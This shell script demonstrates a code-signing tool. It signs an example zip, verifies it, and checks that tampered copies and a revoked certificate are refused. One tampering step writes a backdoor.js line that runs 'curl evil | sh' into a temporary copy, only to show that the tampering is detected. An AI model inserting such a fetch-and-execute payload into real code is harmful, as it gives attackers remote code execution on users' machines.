#!/bin/sh
# signet demo (make demo): sign the example zip, verify it, then show tampered
# copies being refused. Works on copies in a temporary directory; never writes
# into keys-example/. Exits 0 only if the good zip verified and every tampered
# copy was refused.
# Usage: sh keys-example/demo.sh PATH_TO_SIGNET
set -u
signet=${1:?usage: demo.sh PATH_TO_SIGNET}
case $signet in /*) ;; *) signet=$(pwd)/$signet ;; esac
here=$(cd "$(dirname "$0")" && pwd)
tmp=$(mktemp -d "${TMPDIR:-/tmp}/signet-demo.XXXXXX") || exit 1
trap 'rm -rf "$tmp"' EXIT
trap 'exit 1' INT TERM
ok=1

say() { printf '\n==> %s\n' "$*"; }
show() { printf '$ %s\n' "$*"; "$@" 2>&1; }

cp "$here/app-1.0.zip" "$tmp/app-1.0.zip"
cd "$tmp" || exit 1

say "sign the deployment zip with the example key (passphrase from SIGNET_PASSPHRASE)"
if ! SIGNET_PASSPHRASE=example-passphrase show "$signet" sign -k "$here/release.key" app-1.0.zip; then
    echo "demo: signing failed" >&2
    exit 1
fi

say "verify it under keys-example/policy.json"
show "$signet" verify -p "$here/policy.json" app-1.0.zip
rc=$?
echo "exit status $rc"
[ "$rc" -eq 0 ] || { echo "demo: the signed zip did not verify" >&2; ok=0; }

refused() { # refused DIR: verify DIR/app-1.0.zip with the original bundle; must fail
    show "$signet" verify -p "$here/policy.json" -b app-1.0.zip.sigstore.json "$1/app-1.0.zip"
    rc=$?
    echo "exit status $rc"
    if [ "$rc" -eq 0 ]; then
        echo "demo: the tampered copy in $1 was NOT refused" >&2
        ok=0
    fi
}

say "tamper 1: change one byte of a copy"
mkdir byte && cp app-1.0.zip byte/
printf 'X' | dd of=byte/app-1.0.zip bs=1 seek=100 conv=notrunc 2>/dev/null
refused byte

if command -v zip >/dev/null; then
    say "tamper 2: add an entry to a copy"
    mkdir added && cp app-1.0.zip added/
    (cd added && printf 'require("child_process").exec("curl evil | sh");\n' >backdoor.js &&
        zip -q app-1.0.zip backdoor.js && rm backdoor.js)
    refused added
fi

say "sign the zip with the example code-signing certificate (keys-example/pki/signer.pem)"
if show "$signet" sign -k "$here/pki/signer.key" --cert "$here/pki/signer.pem" -o cert.sigstore.json app-1.0.zip; then
    say "verify it under keys-example/policy-pki.json (chain to the example root, EKU, subject, CRLs)"
    show "$signet" verify -p "$here/policy-pki.json" -b cert.sigstore.json app-1.0.zip
    rc=$?
    echo "exit status $rc"
    if [ "$rc" -ne 0 ]; then
        echo "demo: the certificate-signed zip did not verify (expired example PKI? rerun keys-example/make-pki.sh)" >&2
        ok=0
    fi
    say "a certificate revoked by the example CRL is refused (exit status 5)"
    show "$signet" sign -k "$here/pki/revoked.key" --cert "$here/pki/revoked.pem" -o revoked.sigstore.json app-1.0.zip
    show "$signet" verify -p "$here/policy-pki.json" -b revoked.sigstore.json app-1.0.zip
    rc=$?
    echo "exit status $rc"
    [ "$rc" -eq 5 ] || { echo "demo: the revoked certificate was NOT refused" >&2; ok=0; }
else
    echo "demo: signing with the example certificate failed (expired example PKI? rerun keys-example/make-pki.sh)" >&2
    ok=0
fi

if [ "$ok" -eq 1 ]; then
    say "demo passed: the signed zip verified and every tampered copy was refused"
    exit 0
fi
say "demo FAILED"
exit 1
